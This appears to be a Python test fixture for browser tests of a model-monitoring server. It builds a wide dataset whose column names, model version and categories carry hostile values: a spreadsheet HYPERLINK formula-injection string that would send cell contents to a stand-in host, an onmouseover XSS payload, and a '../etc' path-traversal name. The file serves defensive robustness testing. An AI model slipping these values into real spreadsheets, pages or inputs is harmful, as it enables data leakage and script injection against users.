"""A server with what nobody wishes for: 300 features, names of markup, one row, only gaps."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import numpy as np
import pandas as pd

from tests.browser.flights import Site, serving
from tests.page_documents import NASTY

FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1)'
RIGHT_TO_LEFT = "מחיר / יחידה"
LONG = "a_name_that_goes_on_and_on_" * 6 + "end"
NAMES = (NASTY, FORMULA, RIGHT_TO_LEFT, LONG, "", " ", "a.b", "@x", "../etc")
CATEGORIES = (NASTY, FORMULA, RIGHT_TO_LEFT, LONG, "", " ")
VERSION = "<b onmouseover=alert(1)>2</b> " + RIGHT_TO_LEFT
WIDE, ONE, VOID = "wide", "one", f"<i>void</i> {RIGHT_TO_LEFT}"
MODEL_FILE = """\
name: wide
task: binary
label: late
prediction: prediction
score: score
id: id
timestamp: time
segments: [kind]
"""


def wide_rows(rows: int, seed: int, shift: float) -> pd.DataFrame:
    """Rows of 300 features, whose first have names that break things."""
    random = np.random.default_rng(seed)
    columns: dict[str, object] = {
        name: random.normal(shift, 1, rows) for name in NAMES if name.strip()
    }
    columns |= {f"feature_{n:03}": random.normal(0, 1, rows) for n in range(300 - len(columns) - 1)}
    columns["kind"] = random.choice(CATEGORIES, rows)
    score = random.random(rows)
    now = pd.Timestamp.now("UTC").floor("s")
    return pd.DataFrame({
        **columns,
        "id": [f"r{seed}-{n}" for n in range(rows)],
        "time": [now - pd.Timedelta(minutes=5 * n + 1) for n in range(rows)],
        "score": score,
        "prediction": np.where(score > 0.5, "1", "0"),
        "late": np.where(random.random(rows) > 0.5, "1", "0"),
    })  # fmt: skip


@contextmanager
def hostile_site(folder: Path) -> Iterator[Site]:
    """Serve the three models."""
    from watchkeeper_client.client import Client
    from watchkeeper_client.reading import Reader

    wide_rows(1000, 1, 0.0).to_parquet(folder / "reference.parquet", index=False)
    served = wide_rows(600, 2, 1.0)
    with serving(folder / "server") as url:
        with Client(url, model=WIDE, version=VERSION) as client:
            reader = Reader(client)
            reader.apply(MODEL_FILE)
            reader.set_reference(WIDE, folder / "reference.parquet")
            client.log_batch(
                served.drop(columns="late"), id="id", time="time", prediction="prediction",
                score="score",
            )  # fmt: skip
            client.label_batch(served["id"], served["late"])
            client.log({"miles": 3.5, "note": NASTY}, prediction=NASTY, model=ONE, version="1")
            for _ in range(20):
                client.log({"miles": None, "note": None}, prediction=None, model=VOID)
            client.change(NASTY, kind="deployment", model=WIDE)
            client.flush(timeout_s=60)
            assert client.counts.rejected == 0, client.counts
            reader.wait_until_measured(WIDE, timeout_s=120)
        yield Site(url, folder)
